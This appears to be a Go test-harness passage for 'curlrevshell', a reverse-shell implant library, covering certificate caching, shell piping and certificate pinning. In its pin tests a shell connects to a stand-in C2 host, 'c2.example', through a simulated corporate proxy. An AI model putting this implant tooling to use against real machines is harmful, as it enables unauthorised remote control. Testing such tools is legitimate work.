func rawSpkiHash(c tls.Certificate) string {
	if 0 == len(c.Certificate) {
		return ""
	}
	l, err := x509.ParseCertificate(c.Certificate[0])
	if nil != err {
		return ""
	}
	h := sha256.Sum256(l.RawSubjectPublicKeyInfo)
	return hx(h[:8])
}

// pairOK: the private key belongs to the certificate that will be presented.
func pairOK(c tls.Certificate) bool {
	if 0 == len(c.Certificate) {
		return false
	}
	l, err := x509.ParseCertificate(c.Certificate[0])
	if nil != err {
		return false
	}
	pk, ok := c.PrivateKey.(*ecdsa.PrivateKey)
	if !ok {
		return false
	}
	lp, ok := l.PublicKey.(*ecdsa.PublicKey)
	return ok && lp.Equal(&pk.PublicKey)
}

func fileState(p string) (string, string) {
	b, err := os.ReadFile(p)
	if nil != err {
		return "absent", ""
	}
	fi, _ := os.Stat(p)
	h := sha256.Sum256(b)
	return hx(h[:8]) + fmt.Sprintf(":%d", fi.ModTime().UnixNano()), fmt.Sprintf("%o", fi.Mode().Perm())
}

// certMain: each line is one case: a list of operations on one cache path below a fresh directory.
//
//	{"i":k,"depth":n,"ops":[{"op":"start"}|{"op":"delete"}|{"op":"prefix","n":k}|{"op":"corrupt","pos":p,"how":"flip|del|ins|case","val":v}|{"op":"restore"}|{"op":"nocache"}]}
func certMain(args []string) {
	defer out.Flush()
	base := args[0]
	n := 0
	eachLine(func(m map[string]any) {
		n++
		root := filepath.Join(base, fmt.Sprintf("cert%d", n))
		os.MkdirAll(root, 0700)
		defer os.RemoveAll(root)
		dir := root
		var made []string
		for k := 0; k < num(m["depth"]); k++ {
			dir = filepath.Join(dir, fmt.Sprintf("d%d", k))
			made = append(made, dir)
		}
		cf := filepath.Join(dir, "cert.txtar")
		var complete []byte /* the complete file, once created */
		var steps []map[string]any
		type run struct {
			l       sstls.Listener
			started string /* key the run served when it started */
		}
		var runs []run /* runs that are still up (listening on the cache's key pair) */
		defer func() {
			for _, r := range runs {
				r.l.Close()
			}
		}()
		sni := ""
		handshake := func(l sstls.Listener) string {
			c, err := tls.DialWithDialer(&net.Dialer{Timeout: 3 * time.Second}, "tcp", l.Addr().String(), &tls.Config{InsecureSkipVerify: true, ServerName: sni})
			if nil != err {
				return "dial:" + err.Error()
			}
			defer c.Close()
			cs := c.ConnectionState()
			if 0 == len(cs.PeerCertificates) {
				return "nocert"
			}
			h := sha256.Sum256(cs.PeerCertificates[0].RawSubjectPublicKeyInfo)
			return hx(h[:8])
		}
		for _, o := range m["ops"].([]any) {
			op := o.(map[string]any)
			st := map[string]any{}
			switch op["op"].(string) {
			case "listen": /* a run that stays up: sstls.Listen on the cache, as the program does */
				l, err := sstls.Listen("tcp", "127.0.0.1:0", "", 0, cf)
				if nil != err {
					st["listen"] = "err:" + err.Error()
				} else {
					go func() { /* the run serves: accept, shake hands, hang up */
						for {
							c, err := l.Accept()
							if nil != err {
								return
							}
							go func() {
								if tc, ok := c.(*tls.Conn); ok {
									tc.SetDeadline(time.Now().Add(3 * time.Second))
									tc.Handshake()
								}
								c.Close()
							}()
						}
					}()
					k := handshake(l)
					runs = append(runs, run{l: l, started: k})
					st["listen"] = k
					if nil == complete {
						complete, _ = os.ReadFile(cf)
					}
				}
			case "listen_busy": /* a start that gets as far as binding and fails there (address already in use) */
				if 0 != len(runs) {
					before, _ := fileState(cf)
					_, err := sstls.Listen("tcp", runs[0].l.Addr().String(), "", 0, cf)
					after, _ := fileState(cf)
					st["busy_failed"] = nil != err
					/* an EXISTING cache must be left as it was; when there was none (deleted earlier) the failed start may have created one */
					st["file_same"] = before == after || "absent" == before
					st["cache_before"] = before
				}
			case "probe": /* what does every run that is still up present NOW? */
				sni = ""
				if n, ok := op["sni"].(string); ok {
					sni = n /* a client that connects by name */
				}
				var started, served []string
				for _, r := range runs {
					started = append(started, r.started)
					served = append(served, handshake(r.l))
				}
				st["started"], st["served"] = started, served
			case "delete":
				os.Remove(cf)
			case "dirmode": /* the operator (or a hardening script) changes the permission bits of the cache's directory between runs */
				if _, err := os.Stat(dir); nil == err {
					mo, _ := strconv.ParseUint(fmt.Sprint(op["mode"]), 8, 32)
					os.Chmod(dir, os.FileMode(mo))
					defer os.Chmod(dir, 0700)
				}
			case "prefix":
				if nil != complete {
					os.WriteFile(cf, complete[:min(num(op["n"]), len(complete))], 0600)
				}
			case "corrupt":
				if nil != complete {
					b := append([]byte{}, complete...)
					p := num(op["pos"]) % len(b)
					switch op["how"].(string) {
					case "flip":
						b[p] ^= byte(1 + num(op["val"])%255)
					case "del":
						b = append(b[:p], b[p+1:]...)
					case "ins":
						b = append(b[:p], append([]byte{byte(num(op["val"]))}, b[p:]...)...)
					case "case":
						if b[p] >= 'a' && b[p] <= 'z' {
							b[p] -= 32
						} else if b[p] >= 'A' && b[p] <= 'Z' {
							b[p] += 32
						} else {
							b[p] ^= 1
						}
					}
					os.WriteFile(cf, b, 0600)
				}
			case "restore":
				if nil != complete {
					os.WriteFile(cf, complete, 0600)
				}
			}
			if "start" == op["op"] || "nocache" == op["op"] || "prefix" == op["op"] || "corrupt" == op["op"] {
				path := cf
				if "nocache" == op["op"] {
					path = ""
				}
				before, _ := fileState(cf)
				/* what loading says (the model's oracle), then what a start does */
				if "" != path {
					_, lerr := sstls.LoadCachedCertificate(path)
					switch {
					case nil == lerr:
						st["load"] = "ok"
					case errors.Is(lerr, fs.ErrNotExist):
						st["load"] = "notexist"
					default:
						st["load"] = "err"
					}
				}
				var (
					c   tls.Certificate
					err error
					pan any
				)
				func() {
					defer func() { pan = recover() }()
					c, err = sstls.GetCertificate("", nil, nil, time.Duration(num(op["life_s"]))*time.Second, path) /* life_s < 0: a certificate that has already expired */
				}()
				after, mode := fileState(cf)
				st["before"], st["after"], st["mode"] = before, after, mode
				switch {
				case nil != pan:
					st["r"] = "panic"
				case nil != err:
					st["r"] = "err"
					st["msg"] = strings.ReplaceAll(err.Error(), base, "$T")
				default:
					st["r"] = "ok"
					st["key"] = spkiHash(c)
					st["rawkey"] = rawSpkiHash(c)
					st["pair_ok"] = pairOK(c)
				}
				var dm []string
				for _, d := range made {
					if fi, err := os.Stat(d); nil == err {
						dm = append(dm, fmt.Sprintf("%o", fi.Mode().Perm()))
					}
				}
				st["dirmodes"] = dm
				if nil == complete && "" != path && nil == err {
					complete, _ = os.ReadFile(cf)
					st["filelen"] = len(complete)
				}
			}
			steps = append(steps, st)
		}
		emit(map[string]any{"i": m["i"], "steps": steps, "filelen": len(complete), "file": hx(complete)})
	})
}
