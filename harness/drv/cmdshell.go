package main

import (
	"context"
	"errors"
	"fmt"
	"io"
	"os/exec"
	"time"

	"github.com/magisterquis/curlrevshell/lib/simpleshell"
)

func init() { subcommands["cmdshell"] = cmdshellMain }

// cmdshellMain runs a scripted child through simpleshell.CmdShell and reads its output stream at a scripted pace.
//
//	{"i":k,"perl":source,"stdin":hex,"stdin_mode":"close"|"open","read":bytes per read,"pause_us":sleep between reads}
func cmdshellMain(args []string) {
	defer out.Flush()
	eachLine(func(m map[string]any) {
		res := map[string]any{"i": m["i"]}
		src, _ := m["perl"].(string)
		cmd := exec.Command("perl", "-e", src)
		if av, ok := m["argv"].([]any); ok && 0 < len(av) { /* some other command, e.g. one which cannot be started */
			var argv []string
			for _, a := range av {
				argv = append(argv, fmt.Sprint(a))
			}
			cmd = exec.Command(argv[0], argv[1:]...)
		}
		shell, err := simpleshell.NewCmdShell(cmd)
		if nil != err {
			res["r"] = "newerr"
			res["msg"] = err.Error()
			emit(res)
			return
		}
		pr, pw := io.Pipe()
		if "dataeof" == m["stdin_mode"] {
			/* a reader which hands out its last bytes TOGETHER with io.EOF (legal; known-length HTTP bodies do it) */
			shell.SetInput(&dataEOFReader{b: unhex(m["stdin"])})
		} else {
			shell.SetInput(pr)
			go func() {
				pw.Write(unhex(m["stdin"]))
				if "open" != m["stdin_mode"] {
					pw.Close()
				}
			}()
		}
		outr := shell.Output()
		goDone := make(chan error, 1)
		start := time.Now()
		go func() { goDone <- shell.Go(context.Background()) }()
		/* Consumer. */
		type rd struct {
			b   []byte
			eof bool
			err string
		}
		got := make(chan rd, 1)
		go func() {
			var all []byte
			buf := make([]byte, max(1, num(m["read"])))
			pause := time.Duration(num(m["pause_us"])) * time.Microsecond
			for {
				n, err := outr.Read(buf)
				all = append(all, buf[:n]...)
				if nil != err {
					r := rd{b: all, eof: errors.Is(err, io.EOF)}
					if !r.eof {
						r.err = err.Error()
					}
					got <- r
					return
				}
				if 0 != pause {
					time.Sleep(pause)
				}
			}
		}()
		limit := time.Duration(max(2000, num(m["limit_ms"]))) * time.Millisecond
		select {
		case r := <-got:
			res["out"] = hx(r.b)
			res["eof"] = r.eof
			res["read_err"] = r.err
			res["eof_ms"] = time.Since(start).Milliseconds()
		case <-time.After(limit):
			res["eof"] = false
			res["read_err"] = "no end of stream within the limit"
		}
		/* Let Go finish: end the input if it was left open. */
		pw.Close()
		select {
		case err := <-goDone:
			if nil == err {
				res["go"] = "nil"
			} else {
				var ee *exec.ExitError
				if errors.As(err, &ee) {
					res["go"] = fmt.Sprintf("exit:%d", ee.ExitCode())
				} else {
					res["go"] = "err:" + err.Error()
				}
			}
		case <-time.After(5 * time.Second):
			res["go"] = "stuck"
		}
		emit(res)
	})
}

type dataEOFReader struct{ b []byte }

func (r *dataEOFReader) Read(p []byte) (int, error) {
	if 0 == len(r.b) {
		return 0, io.EOF
	}
	n := copy(p, r.b)
	r.b = r.b[n:]
	if 0 == len(r.b) {
		return n, io.EOF
	}
	return n, nil
}
