package main

import "path"

func init() { subcommands["pathclean"] = pathcleanMain }

// pathcleanMain: {"p":hex} -> {"out":hex of path.Clean("/"+p)}: validates coq/Lib/PathClean.v against the library.
func pathcleanMain(args []string) {
	defer out.Flush()
	eachLine(func(m map[string]any) {
		emit(map[string]any{"i": m["i"], "out": hx([]byte(path.Clean("/" + string(unhex(m["p"])))))})
	})
}
