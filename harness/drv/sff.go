package main

import (
	"bytes"
	"fmt"

	"github.com/magisterquis/curlrevshell/lib/shellfuncsfile"
)

func init() { subcommands["sff"] = sffMain }

// sffMain: {"op":"funclist","payload":hex} | {"op":"fromperl","name":hex,"src":hex}
func sffMain(args []string) {
	defer out.Flush()
	eachLine(func(m map[string]any) {
		op, _ := m["op"].(string)
		res := map[string]any{"i": m["i"]}
		var (
			got []byte
			err error
			pan any
		)
		func() {
			defer func() { pan = recover() }()
			switch op {
			case "funclist":
				got, err = shellfuncsfile.GenFuncList(string(unhex(m["payload"])))
			case "fromperl":
				got, err = shellfuncsfile.FromPerl(
					string(unhex(m["name"])),
					bytes.NewReader(unhex(m["src"])),
				)
			}
		}()
		switch {
		case nil != pan:
			res["r"] = "panic"
			res["msg"] = fmt.Sprint(pan)
		case nil != err:
			res["r"] = "err"
			res["msg"] = err.Error()
		default:
			res["r"] = "ok"
			res["out"] = hx(got)
		}
		emit(res)
	})
}
