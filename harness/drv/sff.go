package main

import (
	"bytes"
	"fmt"

	"github.com/magisterquis/curlrevshell/lib/shellfuncsfile"
)

func init() { subcommands["sff"] = sffMain }

// sffMain: {"op":"funclist","payload":hex} | {"op":"fromperl","name":hex,"src":hex}
//
// A result is serialised only AFTER the next call has been made (one behind):
// what a call returned must not change when the library is used again.
func sffMain(args []string) {
	defer out.Flush()
	var prev func()
	defer func() {
		if nil != prev {
			prev()
		}
	}()
	eachLine(func(m map[string]any) {
		op, _ := m["op"].(string)
		res := map[string]any{"i": m["i"]}
		var (
			got []byte
			err error
			pan any
		)
		func() {
			defer func() { pan = recover() }()
			switch op {
			case "funclist":
				got, err = shellfuncsfile.GenFuncList(string(unhex(m["payload"])))
			case "fromperl":
				got, err = shellfuncsfile.FromPerl(
					string(unhex(m["name"])),
					bytes.NewReader(unhex(m["src"])),
				)
			}
		}()
		if nil != prev {
			prev()
		}
		prev = func() {
			switch {
			case nil != pan:
				res["r"] = "panic"
				res["msg"] = fmt.Sprint(pan)
			case nil != err:
				res["r"] = "err"
				res["msg"] = err.Error()
			default:
				res["r"] = "ok"
				res["out"] = hx(got)
			}
			emit(res)
		}
	})
}
