// Command drv is the verification harness driver.  It is compiled *inside*
// the module under test through a build overlay (virtual directory
// zz_verif/drv of /repo), so that it sees the current working tree,
// including internal packages.  Nothing is written to /repo.
//
// Usage: drv <subcommand> [args]; cases are read from stdin as JSON lines and
// results written to stdout as JSON lines.
package main

import (
	"syscall"
	"bufio"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"os"
)

var subcommands = map[string]func(args []string){}

func main() {
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: drv <subcommand>")
		os.Exit(2)
	}
	if v := os.Getenv("VERIF_NOFILE"); "" != v { /* run with few file descriptors: whatever is opened must be closed again */
		var n uint64
		fmt.Sscan(v, &n)
		syscall.Setrlimit(syscall.RLIMIT_NOFILE, &syscall.Rlimit{Cur: n, Max: n})
	}
	f, ok := subcommands[os.Args[1]]
	if !ok {
		fmt.Fprintf(os.Stderr, "unknown subcommand %q\n", os.Args[1])
		os.Exit(2)
	}
	f(os.Args[2:])
}

// eachLine calls f with every JSON line of stdin decoded into a map.
func eachLine(f func(m map[string]any)) {
	sc := bufio.NewScanner(os.Stdin)
	sc.Buffer(make([]byte, 1<<20), 1<<28)
	for sc.Scan() {
		if 0 == len(sc.Bytes()) {
			continue
		}
		var m map[string]any
		if err := json.Unmarshal(sc.Bytes(), &m); nil != err {
			fmt.Fprintf(os.Stderr, "bad input line: %s\n", err)
			os.Exit(2)
		}
		f(m)
	}
}

var out = bufio.NewWriterSize(os.Stdout, 1<<20)

func emit(m map[string]any) {
	b, err := json.Marshal(m)
	if nil != err {
		fmt.Fprintf(os.Stderr, "marshal: %s\n", err)
		os.Exit(2)
	}
	out.Write(b)
	out.WriteByte('\n')
}

func unhex(v any) []byte {
	s, _ := v.(string)
	b, err := hex.DecodeString(s)
	if nil != err {
		fmt.Fprintf(os.Stderr, "bad hex: %s\n", err)
		os.Exit(2)
	}
	return b
}

func hx(b []byte) string { return hex.EncodeToString(b) }

func num(v any) int {
	f, _ := v.(float64)
	return int(f)
}
