package main

import (
	"net"
	"bufio"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/sha256"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/pem"
	"errors"
	"fmt"
	"io"
	"math/big"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"time"

	"github.com/magisterquis/curlrevshell/lib/simpleshell"
)

func init() {
	subcommands["pingen"] = pingenMain
	subcommands["pin"] = pinMain
}

type genCert struct {
	der    []byte
	key    *ecdsa.PrivateKey
	spki   []byte
	cn     string
	serial *big.Int
}

func mkCert(cn string, parent *genCert, isCA bool) *genCert { return mkCertSerial(cn, parent, isCA, nil) }

// mkCertSerial: like mkCert with a chosen serial number (an impostor copies the genuine certificate's name and serial, not its key).
func mkCertSerial(cn string, parent *genCert, isCA bool, serial *big.Int) *genCert {
	k, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if nil != err {
		panic(err)
	}
	if nil == serial {
		serial, _ = rand.Int(rand.Reader, big.NewInt(1<<62))
	}
	t := &x509.Certificate{SerialNumber: serial, Subject: pkix.Name{CommonName: cn}, NotBefore: time.Now().Add(-time.Hour),
		NotAfter: time.Now().Add(24 * time.Hour), KeyUsage: x509.KeyUsageDigitalSignature | x509.KeyUsageCertSign,
		ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth}, BasicConstraintsValid: true, IsCA: isCA,
		DNSNames: []string{"localhost", "c2.example"}, IPAddresses: nil}
	t.IPAddresses = append(t.IPAddresses, []byte{127, 0, 0, 1})
	pt, pk := t, k
	if nil != parent {
		pc, _ := x509.ParseCertificate(parent.der)
		pt, pk = pc, parent.key
	}
	der, err := x509.CreateCertificate(rand.Reader, t, pt, &k.PublicKey, pk)
	if nil != err {
		panic(err)
	}
	c, _ := x509.ParseCertificate(der)
	return &genCert{der: der, key: k, spki: c.RawSubjectPublicKeyInfo, cn: cn, serial: serial}
}

// pingenMain: writes a trusted CA certificate to <dir>/trusted.pem and its key, for a later "pin" run
// started with SSL_CERT_FILE pointing there (Go reads the system roots once per process).
func pingenMain(args []string) {
	dir := args[0]
	ca := mkCert("verif-trusted-ca", nil, true)
	os.WriteFile(filepath.Join(dir, "trusted.pem"), pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: ca.der}), 0600)
	kb, _ := x509.MarshalPKCS8PrivateKey(ca.key)
	os.WriteFile(filepath.Join(dir, "trusted.key"), pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: kb}), 0600)
}

type pinServer struct {
	redir atomic.Value /* string: while non-empty, answer every request with a redirect to this URL */
	leaf  *genCert
	srv   *httptest.Server
	hits  atomic.Int64
	bytes atomic.Int64
	spkis [][]byte
}

func globalState() string {
	s := ""
	if nil != http.DefaultClient.Transport {
		s += "DefaultClient.Transport set;"
	}
	if dt, ok := http.DefaultTransport.(*http.Transport); ok {
		if nil != dt.TLSClientConfig && (dt.TLSClientConfig.InsecureSkipVerify || nil != dt.TLSClientConfig.VerifyConnection) {
			s += "DefaultTransport.TLSClientConfig pinned/insecure;"
		}
	} else {
		s += "DefaultTransport replaced;"
	}
	return s
}

// pinMain: line 1 describes the servers, the following lines are calls.
//
//	{"servers":[{"chain":["leaf","extra"],"trusted":bool}, ...]}   (chain length 1-3; trusted: leaf issued by the trusted CA)
//	{"i":k,"srv":n,"fp":hex-of-the-fingerprint-string | "fpof":[srv,pos,"prefix"|""]}
func pinMain(args []string) {
	defer out.Flush()
	dir := args[0]
	var ca *genCert
	if cb, err := os.ReadFile(filepath.Join(dir, "trusted.pem")); nil == err {
		b, _ := pem.Decode(cb)
		kb, _ := os.ReadFile(filepath.Join(dir, "trusted.key"))
		kblk, _ := pem.Decode(kb)
		k, _ := x509.ParsePKCS8PrivateKey(kblk.Bytes)
		ca = &genCert{der: b.Bytes, key: k.(*ecdsa.PrivateKey)}
	}
	/* A forwarding proxy (CONNECT), as an implant behind a corporate proxy has it: HTTPS_PROXY is in the environment for the whole run.
	net/http never proxies loopback addresses, so only calls which name the C2 "c2.example" go through it; it connects them to 127.0.0.1. */
	pl, err := net.Listen("tcp", "127.0.0.1:0")
	if nil != err {
		panic(err)
	}
	var proxied atomic.Int64
	go func() {
		for {
			c, err := pl.Accept()
			if nil != err {
				return
			}
			go func() {
				defer c.Close()
				br := bufio.NewReader(c)
				rq, err := http.ReadRequest(br)
				if nil != err || http.MethodConnect != rq.Method {
					io.WriteString(c, "HTTP/1.1 405 Method Not Allowed\r\n\r\n")
					return
				}
				_, port, _ := net.SplitHostPort(rq.Host)
				u, err := net.Dial("tcp", net.JoinHostPort("127.0.0.1", port))
				if nil != err {
					io.WriteString(c, "HTTP/1.1 502 Bad Gateway\r\n\r\n")
					return
				}
				defer u.Close()
				proxied.Add(1)
				io.WriteString(c, "HTTP/1.1 200 Connection established\r\n\r\n")
				go io.Copy(u, br)
				io.Copy(c, u)
			}()
		}
	}()
	defer pl.Close()
	os.Setenv("HTTPS_PROXY", "http://"+pl.Addr().String())
	os.Setenv("https_proxy", "http://"+pl.Addr().String())
	os.Unsetenv("NO_PROXY")
	os.Unsetenv("no_proxy")
	var servers []*pinServer
	first := true
	eachLine(func(m map[string]any) {
		if first {
			first = false
			for _, s := range m["servers"].([]any) {
				sm := s.(map[string]any)
				n := num(sm["chainlen"])
				ps := &pinServer{}
				var certs [][]byte
				var leaf *genCert
				for k := 0; k < n; k++ {
					var c *genCert
					if io, ok := sm["impostor_of"].(float64); ok && 0 == k && int(io) < len(servers) {
						/* same name, same serial, (self-)issued the same way - but its own key */
						g := servers[int(io)].leaf
						c = mkCertSerial(g.cn, nil, false, g.serial)
					} else if 0 == k && true == sm["trusted"] && nil != ca {
						c = mkCert("localhost", ca, false)
					} else {
						c = mkCert(fmt.Sprintf("verif-%d-%d", len(servers), k), nil, k > 0)
					}
					if 0 == k {
						leaf = c
						ps.leaf = c
					}
					certs = append(certs, c.der)
					ps.spkis = append(ps.spkis, c.spki)
				}
				ps.srv = httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
					ps.hits.Add(1)
					if to, _ := ps.redir.Load().(string); "" != to {
						http.NewResponseController(w).EnableFullDuplex() /* answer without waiting for the rest of the upload */
						w.Header().Set("Connection", "close")
						http.Redirect(w, r, to, http.StatusFound)
						return
					}
					rc := http.NewResponseController(w)
					rc.EnableFullDuplex() /* as curlrevshell's /io handler does */
					w.Header().Set("Connection", "close")
					io.WriteString(w, "echo from-server\n") /* answer and hang up: the shell's input ends, so Go returns */
					rc.Flush()
				}))
				ps.srv.TLS = &tls.Config{Certificates: []tls.Certificate{{Certificate: certs, PrivateKey: leaf.key}}}
				ps.srv.StartTLS()
				servers = append(servers, ps)
			}
			var sp []any
			for _, s := range servers {
				var l []string
				for _, x := range s.spkis {
					l = append(l, hx(x))
				}
				sp = append(sp, l)
			}
			emit(map[string]any{"spkis": sp, "global_before": globalState()})
			return
		}
		var call func(m map[string]any) map[string]any
		call = func(m map[string]any) map[string]any {
			srv := servers[num(m["srv"])]
			fp := string(unhex(m["fp"]))
			if kind, ok := m["kind"].(string); ok {
				if "pin-of" == kind { /* the pin of ANOTHER server's key */
					fp = pinOf(servers[num(m["of"])].spkis[0])
				} else {
					fp = mkFingerprint(kind, srv, servers[(num(m["srv"])+1)%len(servers)])
				}
			}
			t0 := time.Now()
			h0 := srv.hits.Load()
			var rt *pinServer
			var rt0 int64
			if _, ok := m["redirect"].(float64); ok { /* the called server answers with a redirect to ANOTHER https server */
				rt = servers[num(m["redirect"])]
				rt0 = rt.hits.Load()
				srv.redir.Store(rt.srv.URL + simpleshell.IOPath)
				defer srv.redir.Store("")
			}
			in, outr, eshell := simpleshell.NewEchoShell()
			go func() { io.WriteString(in, "shell-output\n"); in.Close() }()
			_ = outr
			var shell simpleshell.Shell = eshell
			var nested map[string]any
			if nm, ok := m["nested"].(map[string]any); ok {
				/* ANOTHER call of the same process runs to completion while this one is between configuring its client and connecting */
				shell = &nestShell{Shell: eshell, f: func() { nested = call(nm) }}
			}
			ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
			var err error
			var pan any
			hung := false
			finished := make(chan struct{})
			go func() {
				defer close(finished)
				var e2 error
				var p2 any
				defer func() {
					if !hung {
						err, pan = e2, p2
					}
				}()
				defer func() { p2 = recover() }()
				c2 := srv.srv.URL + simpleshell.IOPath
				if true == m["proxy"] { /* the same server, named so that the process's HTTPS_PROXY applies */
					c2 = strings.Replace(c2, "127.0.0.1", "c2.example", 1)
				}
				if sc, ok := m["scheme"].(string); ok && strings.HasPrefix(c2, "https://") { /* URL schemes are case-insensitive */
					c2 = sc + c2[len("https"):]
				}
				e2 = simpleshell.Go(ctx, simpleshell.ConnConfig{C2: c2, Fingerprint: fp}, shell)
			}()
			/* simpleshell.Go's POST itself has no deadline: a watchdog keeps one stuck call from stopping the whole run */
			select {
			case <-finished:
			case <-time.After(20 * time.Second):
				hung = true
			}
			cancel()
			hitNow := srv.hits.Load() - h0
			if nil != nested && num(m["srv"]) == num(m["nested"].(map[string]any)["srv"]) && true == nested["hit"] {
				hitNow-- /* the nested call's own request */
			}
			redirHit := false
			if nil != rt {
				redirHit = rt.hits.Load() > rt0
			}
			res := map[string]any{"i": m["i"], "ms": time.Since(t0).Milliseconds(), "redir_hit": redirHit, "hit": hitNow > 0, "global": globalState(), "fp": hx([]byte(fp)), "proxied": proxied.Load()}
			if nil != nested {
				res["nested"] = nested
			}
			switch {
			case hung:
				res["r"] = "hung"
				res["cls"] = "hung"
			case nil != pan:
				res["r"] = "panic"
				res["msg"] = fmt.Sprint(pan)
			case nil == err:
				res["r"] = "ok"
			default:
				res["r"] = "err"
				res["msg"] = err.Error()
				switch {
				case errors.Is(err, simpleshell.ErrNoMatchingCertificate):
					res["cls"] = "nomatch"
				case strings.Contains(err.Error(), "fingerprint"):
					res["cls"] = "badfp"
				case strings.Contains(err.Error(), "x509") || strings.Contains(err.Error(), "certificate"):
					res["cls"] = "x509"
				default:
					res["cls"] = "other"
				}
			}
			return res
		}
		res := call(m)
		emit(res)
	})
	/* httptest.Server.Close waits for every connection that is still active - for ever, when a client of an earlier call never finished its
	upload (simpleshell.Go's POST has no deadline).  The results are what matters: write them out and leave; the process ends anyway. */
	out.Flush()
	os.Exit(0)
}


// nestShell runs f once, when Go asks for the shell's output (i.e. after Go has configured its HTTP client, before it connects).
type nestShell struct {
	simpleshell.Shell
	f    func()
	done bool
}

func (n *nestShell) Output() io.ReadCloser {
	if !n.done {
		n.done = true
		n.f()
	}
	return n.Shell.Output()
}

func pinOf(spki []byte) string {
	h := sha256.Sum256(spki)
	return base64.StdEncoding.EncodeToString(h[:])
}

// mkFingerprint builds the fingerprint string of the given kind for a call against srv.
func mkFingerprint(kind string, srv, other *pinServer) string {
	own := pinOf(srv.spkis[0])
	switch kind {
	case "own0":
		return own
	case "own0-prefixed":
		return "sha256//" + own
	case "own-last":
		return pinOf(srv.spkis[len(srv.spkis)-1])
	case "own-mid":
		return "sha256//" + pinOf(srv.spkis[len(srv.spkis)/2])
	case "other":
		return pinOf(other.spkis[0])
	case "empty":
		return ""
	case "prefix-only":
		return "sha256//"
	case "not-b64":
		return "sha256//this is not base64!"
	case "short":
		h := sha256.Sum256(srv.spkis[0])
		return base64.StdEncoding.EncodeToString(h[:31])
	case "nopad":
		return strings.TrimRight(own, "=")
	case "crlf":
		return own[:20] + "\r\n" + own[20:]
	case "garbage-after":
		return own + "AAAA"
	case "urlsafe":
		h := sha256.Sum256(srv.spkis[0])
		return base64.URLEncoding.EncodeToString(h[:])
	case "hex":
		h := sha256.Sum256(srv.spkis[0])
		return fmt.Sprintf("%x", h[:])
	}
	return own
}
