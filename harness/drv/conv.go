package main

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"os"
	"path"
	"path/filepath"
	"strings"
	"syscall"

	"github.com/magisterquis/curlrevshell/lib/shellfuncsfile"
)

func init() { subcommands["conv"] = convMain }

// mkFilter returns the observable stand-in filters used by the harness.
func mkFilter(id string) shellfuncsfile.Filter {
	switch {
	case "shell" == id:
		return shellfuncsfile.FromShell
	case "perl" == id:
		return shellfuncsfile.FromPerl
	case "empty" == id:
		return func(string, io.Reader) ([]byte, error) { return nil, nil }
	case "fail" == id:
		return func(string, io.Reader) ([]byte, error) { return nil, errors.New("filter failed") }
	case strings.HasPrefix(id, "tag"):
		return func(name string, r io.Reader) ([]byte, error) {
			b, err := io.ReadAll(r)
			return append([]byte("<"+id[3:]+":"+filepath.Base(name)+">"), b...), err
		}
	}
	panic("unknown filter " + id)
}

func errClass(err error) int {
	m := err.Error()
	switch {
	case strings.Contains(m, "getting info for"):
		return 1
	case strings.Contains(m, "finding files which match"), strings.Contains(m, "error matching"):
		return 3
	case strings.Contains(m, "running filter for"), strings.Contains(m, "no converter for file"):
		return 2
	case strings.Contains(m, "unable to get file info"), strings.Contains(m, "invalid type"):
		return 4
	}
	return 9
}

// convMain: one JSON case per line, see props/c17.py.
func convMain(args []string) {
	defer out.Flush()
	base, err := os.MkdirTemp(os.Getenv("VERIF_TMP"), "conv")
	if nil != err {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(2)
	}
	defer os.RemoveAll(base)
	n := 0
	eachLine(func(m map[string]any) {
		n++
		root := filepath.Join(base, fmt.Sprintf("c%d", n))
		side := filepath.Join(base, fmt.Sprintf("s%d", n))
		os.MkdirAll(root, 0700)
		os.MkdirAll(side, 0700)
		defer os.RemoveAll(root)
		defer os.RemoveAll(side)
		res := map[string]any{"i": m["i"]}

		/* Converter. */
		conv := shellfuncsfile.NewDefaultConverter()
		pats := []string{"*.pl", "*.sh", "*.subr"}
		if def, _ := m["default"].(bool); !def {
			for _, p := range pats {
				conv.SetFilter(p, nil)
			}
			pats = nil
		}
		for _, f := range m["filters"].([]any) {
			pf := f.([]any)
			p := string(unhex(pf[0]))
			id := pf[1].(string)
			if "delete" == id {
				conv.SetFilter(p, nil)
				continue
			}
			conv.SetFilter(p, mkFilter(id))
			pats = append(pats, p)
		}
		conv.AddListFunction, _ = m["addlist"].(bool)

		/* Sources. */
		var (
			srcs  []string
			names []string
		)
		for k, s := range m["sources"].([]any) {
			sm := s.(map[string]any)
			switch sm["t"].(string) {
			case "dir":
				d := filepath.Join(root, fmt.Sprintf("d%d", k))
				os.MkdirAll(d, 0700)
				for j, e := range sm["entries"].([]any) {
					em := e.(map[string]any)
					name := string(unhex(em["n"]))
					names = append(names, name)
					p := filepath.Join(d, name)
					tgt := filepath.Join(side, fmt.Sprintf("t%d_%d", k, j))
					var err error
					switch em["k"].(string) {
					case "reg":
						err = os.WriteFile(p, unhex(em["c"]), 0600)
					case "dir":
						err = os.MkdirAll(filepath.Join(p, "sub"), 0700)
						if nil == err {
							err = os.WriteFile(filepath.Join(p, "inner.sh"), []byte("inner\n"), 0600)
						}
					case "linkreg":
						if err = os.WriteFile(tgt, unhex(em["c"]), 0600); nil == err {
							err = os.Symlink(tgt, p)
						}
					case "linkdir":
						if err = os.MkdirAll(tgt, 0700); nil == err {
							err = os.Symlink(tgt, p)
						}
					case "dangling":
						err = os.Symlink(filepath.Join(side, "does-not-exist"), p)
					case "fifo":
						err = syscall.Mkfifo(p, 0600)
					}
					if nil != err {
						res["setup_error"] = err.Error()
					}
				}
				srcs = append(srcs, d)
			case "file":
				name := string(unhex(sm["n"]))
				names = append(names, name)
				d := filepath.Join(root, fmt.Sprintf("f%d", k))
				os.MkdirAll(d, 0700)
				p := filepath.Join(d, name)
